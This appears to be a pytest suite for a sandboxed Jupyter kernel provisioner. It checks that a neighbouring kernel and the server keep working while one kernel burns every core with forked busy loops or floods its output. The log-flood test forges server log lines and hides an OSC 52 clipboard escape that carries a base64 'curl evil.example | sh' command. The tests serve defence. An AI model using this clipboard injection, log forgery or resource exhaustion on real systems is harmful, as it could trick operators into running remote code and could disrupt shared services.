"""The kernel is abusive rather than escaping: it burns every core or floods its output. Each test
runs the abuse in one real sandboxed kernel and checks that a neighbour kernel, and the Jupyter
server in front of both, keep working, next to a control that shows the abuse really happened
(the hog's cgroup really burnt CPU time, the flood's bytes really reached the server), so no test
can pass because the abuse itself silently failed.

Figures (round-trip medians, flood sizes, the server's peak RSS) are printed; `pytest -s` shows
them.
"""

from __future__ import annotations

import json
import re
import statistics
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import websocket

from benchmarks import measures
from conftest import Kernel, cgroup_limits
from hopx_kernel.provisioner import HopxProvisioner
from runtime import kernel_log
from server_harness import KernelSocket, Server

StartKernel = Callable[..., Kernel]
MiB = 1024**2

# -- 1. CPU hog ---------------------------------------------------------------------------------

# Each phase makes at least this many round trips and lasts at least this long (many CFS
# periods of 100 ms, so the loaded phase sees A both running and throttled).
ROUND_TRIPS = 200
PHASE_SECONDS = 3.0
# Busy processes (threads would share one GIL) for twice the host's cores, until interrupted; a
# deadline in each child keeps a lost interrupt from burning forever.
HOG = """
import os, signal, time
workers = []
for _ in range((os.cpu_count() or 1) * 2):
    pid = os.fork()
    if pid == 0:
        try:
            end = time.monotonic() + 120
            while time.monotonic() < end:
                pass
        finally:
            os._exit(0)
    workers.append(pid)
print(f"hog: {len(workers)} workers for {os.cpu_count()} cores", flush=True)
try:
    for pid in workers:
        os.waitpid(pid, 0)
finally:
    for pid in workers:
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except (ProcessLookupError, ChildProcessError):
            pass
"""


def round_trip(kernel: Kernel, timeout: float = 10) -> float:
    """Seconds from sending `1+1` to having both its execute_reply (shell) and the kernel's
    idle status for it (IOPub)."""
    return measures.round_trip(kernel.kc, timeout)


def cpu_seconds(kernel: Kernel) -> float:
    """CPU time the kernel's sandbox has used so far, from its cgroup (the provisioner's view)."""
    provisioner = kernel.km.provisioner
    assert isinstance(provisioner, HopxProvisioner)
    seconds = provisioner.usage()["cpu_seconds"]
    assert seconds is not None
    return float(seconds)


@dataclass
class Phase:
    """Round trips measured on one kernel while another one's CPU use was watched."""

    name: str
    times: list[float]
    other_cores: float  # the watched kernel's CPU use over the phase, in cores

    @property
    def median_ms(self) -> float:
        return statistics.median(self.times) * 1000


def measure(name: str, kernel: Kernel, other: Kernel) -> Phase:
    cpu0, wall0 = cpu_seconds(other), time.monotonic()
    times: list[float] = []
    while len(times) < ROUND_TRIPS or time.monotonic() - wall0 < PHASE_SECONDS:
        times.append(round_trip(kernel))
    cores = (cpu_seconds(other) - cpu0) / (time.monotonic() - wall0)
    phase = Phase(name, times, cores)
    p95 = statistics.quantiles(times, n=20)[-1] * 1000
    print(
        f"\n  {name}: median {phase.median_ms:.2f} ms, p95 {p95:.2f} ms, "
        f"max {max(times) * 1000:.2f} ms over {len(times)} round trips; "
        f"the other kernel used {cores:.2f} cores"
    )
    return phase


def cgroup_file(kernel: Kernel, filename: str) -> str:
    """A file of the kernel's cgroup in whichever hierarchy has it."""
    for directory in kernel.cgroups:
        path = Path(directory) / filename
        if path.exists():
            return path.read_text().strip()
    raise AssertionError(f"no {filename} among {kernel.cgroups}")


def test_cpu_hog_does_not_slow_a_neighbour_kernel(start_kernel: StartKernel) -> None:
    """Kernel A runs twice as many busy processes as the host has cores; kernel B's execute
    round trip (`1+1` to execute_reply and idle status) stays within 2x of its unloaded median
    (the mean of the medians measured before and after the hog), both with the default
    cpu_limit of one core on a host with more. Control: A's cgroup really burnt CPU (its CPU
    time rose at over half a core, and at most its quota, over the loaded phase; its throttling
    counts are printed), and stopped burning once interrupted."""
    a = start_kernel()
    b = start_kernel()
    for kernel in (a, b):
        limits = cgroup_limits(kernel.cgroups)
        assert (limits.cpu_quota_us, limits.cpu_period_us) == (100000, 100000)
    for _ in range(20):  # warm up B (first executions import and compile)
        round_trip(b)

    before = measure("unloaded (before)", b, a)
    assert before.other_cores < 0.2, before

    hog_id = a.kc.execute(HOG)
    started = ""
    deadline = time.monotonic() + 30
    while not started.startswith("hog:") and time.monotonic() < deadline:
        msg = a.kc.get_iopub_msg(timeout=30)
        if msg["parent_header"].get("msg_id") == hog_id and msg["msg_type"] == "stream":
            started += msg["content"]["text"]
    print(f"\n  {started.strip()}")
    assert started.startswith("hog:"), started
    time.sleep(0.5)  # let the workers ramp up to the quota
    loaded = measure("loaded (A hogging)", b, a)

    a.km.interrupt_kernel()
    while (reply := a.kc.get_shell_msg(timeout=30))["parent_header"].get("msg_id") != hog_id:
        pass
    assert reply["content"]["status"] == "error", reply["content"]
    assert reply["content"]["ename"] == "KeyboardInterrupt", reply["content"]
    time.sleep(0.5)
    after = measure("unloaded (after)", b, a)
    throttled = dict(line.split() for line in cgroup_file(a, "cpu.stat").splitlines())

    baseline = (before.median_ms + after.median_ms) / 2
    ratio = loaded.median_ms / baseline
    print(
        f"\n  baseline {baseline:.2f} ms, loaded {loaded.median_ms:.2f} ms, ratio {ratio:.2f}; "
        f"A's cpu.stat {throttled}"
    )
    # The control: the hog really ran, within A's quota of one core, and then stopped. It gets
    # ~0.95 cores (and is throttled) on a quiet host; other work on the host can take some.
    assert 0.5 < loaded.other_cores < 1.2, loaded.other_cores
    assert after.other_cores < 0.2, after.other_cores
    # The project's requirement. (On a 2-core host the median also holds with A unlimited, as
    # the scheduler favours B's short wake-ups; that the quota itself is enforced is
    # test_limits.py's test_cpu_limit_throttles_to_the_quota.)
    assert ratio < 2, (before.median_ms, loaded.median_ms, after.median_ms)
    # A itself is fine afterwards.
    assert a.value("import json; print(json.dumps(6 * 7))") == 42


# -- 2. IOPub flood -----------------------------------------------------------------------------

FLOOD_MB = 300
FLOOD = f"""
import sys
chunk = "x" * {MiB}
for _ in range({FLOOD_MB}):
    sys.stdout.write(chunk)
    sys.stdout.flush()
"""
CALL_TIMEOUT = 10.0
# jupyter_server's own IOPub rate limits (1 MB/s of stream data, 1000 messages/s, averaged over
# 3 s) drop most of a flood before a client sees it; with them off every byte goes through.
NO_RATE_LIMIT = [
    "--ZMQChannelsWebsocketConnection.iopub_data_rate_limit=0",
    "--ZMQChannelsWebsocketConnection.iopub_msg_rate_limit=0",
]
SERVER_RSS_LIMIT = 2 * 1024 * MiB


@dataclass
class Drain:
    """What a client draining a flooding kernel's websocket saw of one execution."""

    msg_id: str
    stdout_bytes: int = 0
    stdout_messages: int = 0
    notices: list[str] = field(default_factory=list)  # stderr the server inserted
    reply: dict[str, Any] | None = None
    idle: bool = False
    error: BaseException | None = None

    def run(self, ws: websocket.WebSocket, timeout: float) -> None:
        try:
            deadline = time.monotonic() + timeout
            while not (self.reply and self.idle) and time.monotonic() < deadline:
                ws.settimeout(max(deadline - time.monotonic(), 0.01))
                message = json.loads(ws.recv())
                if message.get("parent_header", {}).get("msg_id") != self.msg_id:
                    continue
                content = message["content"]
                if message["msg_type"] == "stream" and content["name"] == "stdout":
                    self.stdout_bytes += len(content["text"])
                    self.stdout_messages += 1
                elif message["msg_type"] == "stream":
                    self.notices.append(content["text"])
                elif message["msg_type"] == "execute_reply":
                    self.reply = content
                elif message["msg_type"] == "status":
                    self.idle = content["execution_state"] == "idle"
        except BaseException as e:  # re-raised by the test's thread
            self.error = e


@dataclass
class Neighbour:
    """Calls made to the server and kernel B while A floods: every one must complete in time."""

    server: Server
    b: KernelSocket
    kernels: set[str]
    round_trips: list[float] = field(default_factory=list)
    rest_calls: list[float] = field(default_factory=list)

    def once(self) -> None:
        start = time.monotonic()
        content, stdout = self.b.execute("print(6 * 7)", timeout=CALL_TIMEOUT)
        assert content["status"] == "ok", content
        assert stdout == "42\n"
        self.round_trips.append(time.monotonic() - start)
        for path in ("/api/kernels", "/hopx/api/sandboxes"):
            start = time.monotonic()
            response = self.server.api("GET", path, timeout=CALL_TIMEOUT)
            assert response.status_code == 200, (path, response.text)
            listed = {k.get("id", k.get("kernel_id")) for k in response.json()}
            assert self.kernels <= listed, (path, response.json())
            self.rest_calls.append(time.monotonic() - start)

    def report(self) -> str:
        def stats(times: list[float]) -> str:
            return f"median {statistics.median(times):.3f} s, max {max(times):.3f} s"

        return (
            f"{len(self.round_trips)} round trips on B ({stats(self.round_trips)}), "
            f"{len(self.rest_calls)} REST calls ({stats(self.rest_calls)})"
        )


def fast_socket(server: Server, kernel_id: str) -> KernelSocket:
    """A kernel websocket like `server.connect`'s, but without websocket-client's pure-Python
    UTF-8 validation of every text frame (about 0.1 s per MiB), which would make the test's
    client, not the server, the bottleneck of a flood."""
    ws_url = server.url.replace("http://", "ws://", 1)
    ws = websocket.create_connection(
        f"{ws_url}/api/kernels/{kernel_id}/channels?token={server.token}",
        timeout=60,
        skip_utf8_validation=True,
    )
    kernel_socket = KernelSocket(ws)
    server.sockets.append(kernel_socket)
    return kernel_socket


def peak_rss(pid: int) -> int:
    """The process's peak resident set size (VmHWM) in bytes."""
    status = Path(f"/proc/{pid}/status").read_text()
    match = re.search(r"^VmHWM:\s+(\d+) kB$", status, re.MULTILINE)
    assert match, status
    return int(match.group(1)) * 1024


def sandbox_peak_memory(runtime_dir: Path, kernel_id: str) -> int | None:
    """The most memory the kernel's sandbox has used so far, from its memory cgroup (named in
    the supervisor's record), if the host's cgroups keep that figure."""
    record = json.loads((runtime_dir / "hopx" / kernel_id / "sandbox.json").read_text())
    for filename in ("memory.max_usage_in_bytes", "memory.peak"):
        path = Path(record["memory_cgroup"]) / filename
        if path.exists():
            return int(path.read_text())
    return None


def flooding_server(server: Server, make_kernelspec: Callable[..., str]) -> tuple[str, Neighbour]:
    """Kernel A, the flooder, with the default memory limit (2G: the flood's bytes queue up in
    its ZeroMQ sockets while the server catches up), and kernel B, its neighbour, which works
    before anything happens."""
    a = server.start_kernel(make_kernelspec("hopx-flood", memory_limit="2G"))
    b = server.start_kernel()
    neighbour = Neighbour(server, server.connect(b), {a, b})
    neighbour.once()
    return a, neighbour


@pytest.mark.parametrize(
    "server_args", [[], NO_RATE_LIMIT], ids=["server-rate-limits", "no-rate-limits"]
)
def test_iopub_flood_with_a_client_draining_it(
    server: Server,
    server_args: list[str],
    make_kernelspec: Callable[..., str],
    runtime_dir: Path,
) -> None:
    """Kernel A prints 300 x 1 MiB while a websocket client drains A's output; meanwhile `print`
    round trips on kernel B over its websocket and GET /api/kernels and /hopx/api/sandboxes all
    complete within 10 s each, the server stays up, and A answers afterwards. With the server's
    default rate limits the server receives the whole flood but drops most of it (the client
    gets its "IOPub data rate exceeded" notice instead); with them off, the control, all 300
    MiB reach the client through the server. The server's peak RSS stays below 2 GiB."""
    a, neighbour = flooding_server(server, make_kernelspec)
    rss_before = peak_rss(server.process.pid)
    ks_a = fast_socket(server, a)
    assert ks_a.value("print(1)") == 1
    started = time.monotonic()
    drain = Drain(ks_a.send_execute(FLOOD))
    thread = threading.Thread(target=drain.run, args=(ks_a.ws, 120), daemon=True)
    thread.start()
    while thread.is_alive():
        neighbour.once()
    thread.join()
    elapsed = time.monotonic() - started
    if drain.error:
        raise drain.error
    assert drain.reply is not None, drain
    assert drain.reply["status"] == "ok", drain.reply
    assert drain.idle

    neighbour.once()
    assert server.process.poll() is None
    assert ks_a.value("print(6 * 7)") == 42
    rss = peak_rss(server.process.pid)
    a_peak = sandbox_peak_memory(runtime_dir, a) or 0
    print(
        f"\n  {'rate limits off' if server_args else 'default rate limits'}: the client got "
        f"{drain.stdout_bytes / MiB:.1f} MiB in {drain.stdout_messages} messages of the "
        f"{FLOOD_MB} MiB printed, in {elapsed:.1f} s; {neighbour.report()}; server peak RSS "
        f"{rss_before / MiB:.0f} -> {rss / MiB:.0f} MiB; A's peak memory {a_peak / MiB:.0f} MiB"
    )
    if server_args:
        assert drain.stdout_bytes == FLOOD_MB * MiB, drain.stdout_messages
        assert not drain.notices, drain.notices
    else:
        assert drain.stdout_bytes < FLOOD_MB * MiB / 10, drain.stdout_messages
        assert any("IOPub data rate exceeded" in n for n in drain.notices), drain.notices
    # The neighbour's calls really overlapped the flood.
    assert len(neighbour.round_trips) >= 4, neighbour.report()
    assert rss < SERVER_RSS_LIMIT


def test_iopub_flood_with_no_client_connected(
    server: Server, make_kernelspec: Callable[..., str], runtime_dir: Path
) -> None:
    """Kernel A is told to print 300 x 1 MiB and its only websocket client disconnects as soon
    as the cell is busy; while A floods nobody, `print` round trips on kernel B and GET
    /api/kernels and /hopx/api/sandboxes all complete within 10 s each, the server stays up,
    and a new client of A gets an answer afterwards (so the flood cell has ended). Control: the
    flood really reached the server: jupyter_server buffers a disconnected client's messages
    in memory and, when a client with a new session connects, logs how many it discards; that
    is (nearly) the 300 stream messages. The server's peak RSS stays below 2 GiB."""
    a, neighbour = flooding_server(server, make_kernelspec)
    rss_before = peak_rss(server.process.pid)
    ks_a = server.connect(a)
    assert ks_a.value("print(1)") == 1
    started = time.monotonic()
    msg_id = ks_a.send_execute(FLOOD)
    assert ks_a.wait_busy(msg_id, CALL_TIMEOUT)
    ks_a.close()
    # Until the server has seen A go idle (bounded: the verdict is the execution below).
    idle_after = None
    while time.monotonic() - started < 60:
        if server.kernel_model(a)["execution_state"] == "idle":
            idle_after = time.monotonic() - started
            break
        neighbour.once()

    neighbour.once()
    assert server.process.poll() is None
    again = server.connect(a)  # a new session: the server discards the gone client's buffer
    assert again.value("print(6 * 7)") == 42
    assert server.kernel_model(a)["execution_state"] == "idle"
    rss = peak_rss(server.process.pid)
    a_peak = sandbox_peak_memory(runtime_dir, a) or 0
    discarded = [int(n) for n in re.findall(r"Discarding (\d+) buffered messages", server.log())]
    print(
        f"\n  no client: the server saw A idle "
        f"{f'after {idle_after:.1f} s' if idle_after else 'not within 60 s'}; it discarded "
        f"{discarded} buffered messages; {neighbour.report()}; server peak RSS "
        f"{rss_before / MiB:.0f} -> {rss / MiB:.0f} MiB; A's peak memory {a_peak / MiB:.0f} MiB"
    )
    assert len(discarded) == 1, server.log()[-3000:]
    assert discarded[0] >= 0.9 * FLOOD_MB
    assert len(neighbour.round_trips) >= 4, neighbour.report()
    assert rss < SERVER_RSS_LIMIT


# -- 3. the server's log ----------------------------------------------------------------------

# Inside the kernel: 300 MiB written straight to the inherited stderr as fast as it goes, in
# lines that imitate the server's own and carry terminal escape sequences (OSC 52 sets the
# clipboard of whoever reads the log in a terminal, ESC [ 2 J clears the screen). Under
# ipykernel sys.stderr.fileno() is that inherited descriptor, the one the supervisor reads; fd 2
# is ipykernel's pipe, copied to IOPub as well, whose queue for 300 MiB outgrew the sandbox's
# memory on a loaded host.
LOG_FLOOD = r"""
import os, sys
forged = (b"[I 2026-12-01 10:00:00.000 ServerApp] Kernel shutdown: all kernels\n"
          b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\r[W ServerApp] owned\n")
block = forged * (1024 * 1024 // len(forged) + 1)
written = 0
while written < 300 * 1024 * 1024:
    written += os.write(sys.stderr.fileno(), block)
print(written)
"""


def test_a_kernel_cannot_flood_or_forge_the_servers_log(server: Server) -> None:
    """300 MiB written to the kernel's stderr at full speed reaches the server's log as at most
    the burst plus the rate for the time it took (runtime.kernel_log), each line marked as that
    sandbox's, with no escape character left, and one note of what was dropped; the server
    keeps answering. Control: the kernel really wrote the 300 MiB."""
    before = server.log_path.stat().st_size
    kernel_id = server.start_kernel()
    ws = server.connect(kernel_id)
    model = server.api("GET", f"/hopx/api/sandboxes/{kernel_id}").json()
    started = time.monotonic()
    _, stdout = ws.execute(LOG_FLOOD, timeout=120)
    assert int(stdout) >= 300 * MiB
    time.sleep(1.0)  # what the supervisor still forwards
    elapsed = time.monotonic() - started
    log = server.log_path.read_bytes()[before:]
    print(f"\n  300 MiB written in {elapsed:.1f} s; the server's log grew {len(log) / MiB:.2f} MiB")
    assert len(log) < kernel_log.BURST_BYTES + kernel_log.RATE_BYTES_PER_SECOND * elapsed + MiB
    assert b"\x1b" not in log
    assert b"\x07" not in log
    kernel_lines = [line for line in log.splitlines() if b"ServerApp] owned" in line]
    assert kernel_lines
    # Each marked with the sandbox it came from, by id and address.
    prefix = f"[hopx-kernel {model['sandbox_id']} {model['address']}] ".encode()
    assert all(line.startswith(prefix) for line in kernel_lines)
    assert all(b"\r" not in line for line in log.splitlines())
    notes = [line for line in log.splitlines() if b"[dropped " in line]
    assert notes
    assert server.status_ok()
    ws.close()
